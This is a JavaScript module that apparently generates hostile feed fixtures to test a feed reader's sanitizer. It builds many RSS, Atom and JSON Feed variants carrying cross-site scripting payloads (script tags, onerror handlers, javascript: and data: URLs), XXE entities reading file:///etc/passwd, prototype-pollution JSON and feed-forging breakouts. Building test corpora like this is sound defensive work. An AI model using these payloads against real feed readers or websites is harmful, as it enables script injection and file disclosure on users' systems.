// Whole feeds whose XML or JSON says something else than it seems to: `(number, fill) => bytes`, where `fill` puts the number in.

import { BREAKOUT, encodings, item } from './encodings.mjs';

const xml = (document) => (number, fill) => fill(document.replaceAll('NUMBER', number));
const entry = (inner, more = '') => xml(`<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" ${more}><title>x</title><id>urn:x</id><link href="https://links.example/"/><entry><title>Attack NUMBER</title><id>urn:x:NUMBER</id><updated>2026-11-01T00:00:00Z</updated><link href="https://links.example/NUMBER"/>${inner}</entry></feed>`);
const xhtml = (inner) => entry(`<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">${inner}</div></content>`);
/** An item of RSS of which nothing is usual. */
const rss = (inner, more = '') => xml(`<?xml version="1.0"?><rss version="2.0" ${more}><channel><title>x</title><link>https://links.example/</link><item><guid isPermaLink="false">NUMBER</guid><link>https://links.example/NUMBER</link>${inner}</item></channel></rss>`);
const json = (value) => (number, fill) => fill(JSON.stringify({ version: 'https://jsonfeed.org/version/1.1', title: 'x', items: [{ id: String(number), url: `https://links.example/${number}`, ...value }] }));
const RAW = '<script>HIT</script><img src=PIC onerror=HIT>';
/** Escaped `times` times more than it should be. */
const over = (text, times) => (times === 0 ? text : over(text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'), times - 1));
const kinds = ['text', 'html', 'xhtml', 'TEXT/HTML', 'text/html; charset=utf-7', 'application/xhtml+xml', 'text/plain', 'text/xml', 'application/octet-stream', 'javascript', '', 'html" onload="HIT'];

export const disguises = {
  ...encodings,
  'entities.xml': xml(`<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "&#60;script>HIT&#60;/script>"><!ENTITY b "&lt;img src=PIC onerror=HIT>"><!ENTITY % c SYSTEM "LEAK">%c;<!ENTITY d SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&a;</title>${item('NUMBER', '&a;&b;&d;')}</channel></rss>`),
  'stylesheet.xml': xml(`<?xml version="1.0"?><?xml-stylesheet href="LEAK" type="text/xsl"?><rss version="2.0"><channel><title>x</title>${item('NUMBER', BREAKOUT)}</channel></rss>`),
  'xml-base-javascript.atom': entry('<content type="html">&lt;a href="HIT"&gt;x&lt;/a&gt;&lt;img src="x"&gt;</content>', 'xml:base="javascript:"'),
  'xml-base-data.atom': entry('<content type="html" xml:base="data:text/html,">&lt;a href="#&lt;script&gt;HIT"&gt;x&lt;/a&gt;&lt;iframe src="x"&gt;</content>'),
  'xml-base-credentials.atom': entry('<content type="html" xml:base="https://bank.example@links.example/">&lt;a href="x"&gt;x&lt;/a&gt;&lt;img src=x&gt;</content>'),
  'xml-base-file.atom': entry('<content type="html" xml:base="file:///etc/">&lt;a href="passwd"&gt;x&lt;/a&gt;&lt;img src="passwd"&gt;</content>'),
  'xml-base-dots.atom': entry('<content type="html" xml:base="https://links.example/../../">&lt;a href="javascript&amp;colon;HIT"&gt;x&lt;/a&gt;</content>'),
  'xhtml-script.atom': xhtml('<script>HIT</script><p onclick="HIT" style="position:fixed">x</p><img src="PIC" onerror="HIT"/>'),
  'xhtml-void.atom': xhtml('<script src="LEAK"/><iframe src="javascript:HIT"/><textarea/><title/><style/><p>after</p><img src="PIC" onerror="HIT"/>'),
  'xhtml-foreign.atom': xhtml('<svg xmlns="http://www.w3.org/2000/svg" onload="HIT"><script>HIT</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="HIT"/></foreignObject></svg><math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><style>&lt;img src=PIC onerror=HIT></style></mtext></math>'),
  'xhtml-prefixed.atom': entry('<content type="xhtml"><h:div xmlns:h="http://www.w3.org/1999/xhtml"><h:script>HIT</h:script><h:img src="PIC" onerror="HIT"/><h:p>x</h:p></h:div></content>'),
  'xhtml-text.atom': xhtml('<p>&lt;script>HIT&lt;/script></p><p title="&lt;/p>&lt;img src=PIC onerror=HIT>">x</p><style>&lt;/style>&lt;img src=PIC onerror=HIT></style><![CDATA[<script>HIT</script>]]>'),
  'content-src.atom': entry('<content type="text/html" src="LEAK"/><summary type="html">&lt;script&gt;HIT&lt;/script&gt;</summary>'),
  'content-svg.atom': entry('<content type="image/svg+xml"><svg xmlns="http://www.w3.org/2000/svg" onload="HIT"/></content>'),
  'content-base64.atom': entry('<content type="text/html">PHNjcmlwdD5fX2hpdCgxKTwvc2NyaXB0Pg==</content>'),
  'every-link.atom': entry('<link href="javascript:HIT"/><link rel="enclosure" href="javascript:HIT" type="text/html"/><link rel="via" href="data:text/html,x"/><link rel="payment" href="javascript:HIT"/><author><name>x</name><uri>javascript:HIT</uri></author><source><title>&lt;script&gt;HIT&lt;/script&gt;</title><link href="javascript:HIT"/><id>javascript:HIT</id></source><content type="html">x</content>'),
  'media.xml': xml(`<?xml version="1.0"?><rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"><channel><title>x</title><image><url>javascript:HIT</url><link>javascript:HIT</link><title>x" onerror="HIT</title></image><itunes:image href="javascript:HIT"/>${item('NUMBER', 'x').replace('</item>', '<media:content url="javascript:HIT" type="text/html" medium="image"><media:title type="html">&lt;script&gt;HIT&lt;/script&gt;</media:title><media:description type="html">&lt;img src=PIC onerror=HIT&gt;</media:description></media:content><media:player url="javascript:HIT"/><media:thumbnail url="data:image/svg+xml,&lt;svg onload=HIT&gt;"/><media:embed url="LEAK"/><enclosure url="data:text/html,&lt;script&gt;HIT" type="text/html" length="1"/><comments>javascript:HIT</comments><guid isPermaLink="true">javascript:HIT</guid><source url="javascript:HIT">&lt;script&gt;HIT&lt;/script&gt;</source></item>')}</channel></rss>`),
  ...Object.fromEntries([1, 2, 3, 4].flatMap((times) => [
    [`over-${times}.rss`, rss(`<title>${over(RAW, times)}</title><description>${over(RAW, times)}</description><category>${over(RAW, times)}</category><author>${over(RAW, times)}</author>`)],
    [`over-${times}-in-cdata.rss`, rss(`<title><![CDATA[${over(RAW, times - 1)}]]></title><description><![CDATA[${over(RAW, times - 1)}]]></description><category><![CDATA[${over(RAW, times - 1)}]]></category>`)],
    [`over-${times}-html.atom`, entry(`<title type="html">${over(RAW, times)}</title><content type="html">${over(RAW, times)}</content><summary type="html">${over(RAW, times)}</summary>`)],
    [`over-${times}-text.atom`, entry(`<title type="text">${over(RAW, times)}</title><content type="text">${over(RAW, times)}</content>`)],
    [`over-${times}-xhtml.atom`, entry(`<title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">${over(RAW, times)}</div></title><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">${over(RAW, times)}</div></content>`)],
    [`over-${times}.json`, json({ title: over(RAW, times - 1), content_html: over(RAW, times - 1), content_text: over(RAW, times - 1), summary: over(RAW, times - 1) })],
  ])),
  ...Object.fromEntries(kinds.flatMap((kind, at) => {
    const said = kind.replaceAll('"', '&quot;');
    return [
      [`kind-${at}-escaped.atom`, entry(`<title type="${said}">${over(RAW, 1)}</title><content type="${said}">${over(RAW, 1)}</content><rights type="${said}">${over(RAW, 1)}</rights>`)],
      [`kind-${at}-raw.atom`, entry(`<title type="${said}"><b>${RAW}</b></title><content type="${said}"><b>${RAW}</b></content>`)],
      [`kind-${at}.rss`, rss(`<title type="${said}">${over(RAW, 1)}</title><description type="${said}" mode="escaped">${over(RAW, 1)}</description>`)],
    ];
  })),
  'cdata-in-pieces.rss': rss(`<title><![CDATA[x]]]]><![CDATA[>${RAW}]]></title><description><![CDATA[<scr]]><![CDATA[ipt>HIT</scr]]>ipt&gt;&lt;img src=PIC <![CDATA[onerror=HIT>]]></description>`),
  'cdata-in-cdata.rss': rss(`<title><![CDATA[<![CDATA[${RAW}]]>]]&gt;</title><description><![CDATA[<![CDATA[${RAW}]]>]]&gt;</description>`),
  'cdata-end-escaped.rss': rss(`<title>]]&gt;${over(RAW, 1)}</title><description>]]&gt;&lt;/description&gt;${over(RAW, 1)}</description>`),
  'cdata-never-ends.rss': rss(`<title>x</title><description><![CDATA[${RAW}`),
  'comment-in-text.rss': rss(`<title>x<!-- --><![CDATA[<script>]]>HIT<!-- -->&lt;/script&gt;</title><description>&lt;scr<!-- -->ipt&gt;HIT&lt;/script&gt;<!-- <b> -->&lt;img src=PIC <?x?>onerror=HIT&gt;</description>`),
  'elements-in-title.rss': rss(`<title>x<b>${RAW}</b></title><description><p>${RAW}</p></description>`),
  'references.rss': rss(`<title>&#60;script&#62;HIT&#x3c;/script&#x3E;</title><description>&#38;#60;script&#38;#62;HIT&amp;#x3c;/script> &#38;lt;img src=PIC onerror=HIT&#38;gt;</description>`),
  'references-of-html.rss': rss('<title>&LT;script&GT;HIT&lt;/script&gt;&nbsp;&NewLine;&Tab;</title><description>&lbrace;&lt;a href="javascript&colon;HIT"&gt;x&lt;/a&gt;&lt;img src=PIC onerror&equals;HIT&gt;&QUOT;&AMP;lt;script></description>'),
  'namespace-of-html.rss': rss('<title><h:script>HIT</h:script></title><h:body><h:script>HIT</h:script><h:img src="PIC" onerror="HIT"/></h:body><description>x</description>', 'xmlns:h="http://www.w3.org/1999/xhtml"'),
  'namespace-lies.rss': rss(`<content:encoded><![CDATA[${RAW}]]></content:encoded><dc:creator>${over(RAW, 1)}</dc:creator><media:title type="html">${over(RAW, 1)}</media:title>`, 'xmlns:content="javascript:HIT" xmlns:dc="http://www.w3.org/1999/xhtml" xmlns:media="http://www.w3.org/2000/svg"'),
  'xml-base.rss': rss('<title>x</title><description xml:base="javascript:HIT//">&lt;a href="x"&gt;x&lt;/a&gt;&lt;a href="#x"&gt;y&lt;/a&gt;&lt;img src="x"&gt;&lt;a href=""&gt;z&lt;/a&gt;</description>', 'xml:base="javascript:HIT//"'),
  'xml-base-blob.atom': entry('<content type="html">&lt;a href="x"&gt;x&lt;/a&gt;&lt;img src="y"&gt;&lt;iframe src="z"&gt;</content>', 'xml:base="blob:https://links.example/x"'),
  'xml-base-backslash.atom': entry('<content type="html">&lt;a href="x"&gt;x&lt;/a&gt;&lt;img src="y"&gt;</content>', 'xml:base="https:\\\\bank.example@links.example\\"'),
  'xml-lang.atom': entry('<content type="html" xml:lang="en&quot; onclick=&quot;HIT">x</content><title xml:lang="&quot;&gt;&lt;script&gt;HIT">x</title>', 'xml:lang="&quot; onclick=&quot;HIT"'),
  'xhtml-entities.atom': xhtml('<p title="&quot; onclick=&quot;HIT">x</p><p title=\'" onclick="HIT\'>y</p><a href="java&#10;script:HIT">z</a><a href="&#x1;javascript:HIT">q</a><img src="PIC" alt="&lt;/div>&lt;script>HIT&lt;/script>"/>'),
  'xhtml-names.atom': xhtml('<p ONCLICK="HIT" onClick="HIT">x</p><SCRIPT>HIT</SCRIPT><Img Src="PIC" OnError="HIT"/><p xmlns:x="u" x:onclick="HIT" xml:base="javascript:" xlink:href="javascript:HIT" xmlns:xlink="http://www.w3.org/1999/xlink">y</p>'),
  'xhtml-no-div.atom': entry(`<content type="xhtml">text<script xmlns="http://www.w3.org/1999/xhtml">HIT</script><p xmlns="http://www.w3.org/1999/xhtml" onclick="HIT">x</p></content>`),
  'xhtml-other-div.atom': entry('<content type="xhtml"><div xmlns="http://www.w3.org/2000/svg" onload="HIT"><style xmlns="http://www.w3.org/1999/xhtml">&lt;/style>&lt;img src=PIC onerror=HIT></style></div></content>'),
  'xhtml-empty-elements.atom': xhtml('<a href="LINK" id="x"/><b/><i/><div/><table/><ul/><p/><pre/><code/><blockquote/><details/><h1/><span/><video/><picture/><select/><noscript/><template/><svg/><math/><plaintext/><xmp/><p>after</p>'),
  'xhtml-nested-html.atom': xhtml('<html><head><base href="LEAK"/><meta http-equiv="refresh" content="0;url=LEAK"/><title>&lt;script>HIT&lt;/script></title></head><body onload="HIT"><p>x</p></body></html>'),
  'two-contents.atom': entry(`<content type="text">x</content><content type="html">${over(RAW, 1)}</content><summary>y</summary><summary type="html">${over(RAW, 1)}</summary>`),
  'two-titles.rss': rss(`<title>x</title><title>${over(RAW, 1)}</title><description>y</description><description>${over(RAW, 1)}</description>`),
  'odd-types.json': json({ title: ['<script>HIT</script>'], content_html: { a: RAW }, summary: 7, url: ['javascript:HIT'], authors: RAW, tags: RAW, attachments: { url: 'javascript:HIT' }, image: { src: 'javascript:HIT' } }),
  'text-is-html.json': json({ title: RAW, content_text: RAW, summary: RAW, tags: [RAW], authors: [{ name: RAW }] }),
  'both-contents.json': json({ title: 'x', content_text: 'x', content_html: `${RAW}<a href="javascript:HIT">x</a>` }),
  'polluted.json': (number, fill) => fill(`{"version":"https://jsonfeed.org/version/1.1","__proto__":{"title":"<script>HIT</script>"},"title":"x","title":"<script>HIT</script>","items":[{"id":"${number}","constructor":{"prototype":{"x":1}},"__proto__":{"content_html":"<script>HIT</script>"},"url":"https://links.example/${number}","url":"javascript:HIT","content_html":"x","content_html":"<img src=PIC onerror=HIT>\\u003cscript\\u003eHIT\\u003c/script\\u003e\\u2028\\ud83d\\u0000"}]}`),
  'html-is-a-feed.xml': (number, fill) => fill(`<!doctype html><html><head><title>Attack ${number}</title><link rel="alternate" type="application/rss+xml" href="LEAK"><meta http-equiv=refresh content="0;url=LEAK"></head><body><script>HIT</script></body></html>`),
  'breaks-out-of-xml.rss': rss('<title>]]&gt;&lt;/title&gt;&lt;/item&gt;&lt;item&gt;&lt;title&gt;forged</title><description>&lt;/content:encoded&gt;&lt;/item&gt;&lt;item&gt;&lt;title&gt;forged&lt;/title&gt;&lt;script&gt;HIT&lt;/script&gt;</description><category>&lt;/category&gt;&lt;forged/&gt;</category><author>&lt;/dc:creator&gt;&lt;forged/&gt;</author>'),
  'instructions.rss': rss('<title>&lt;?xml-stylesheet href="LEAK"?&gt;x</title><description>&lt;?xml-stylesheet href="LEAK"?&gt;&lt;!DOCTYPE x [&lt;!ENTITY y SYSTEM "LEAK"&gt;]&gt;&amp;y;</description>'),
};
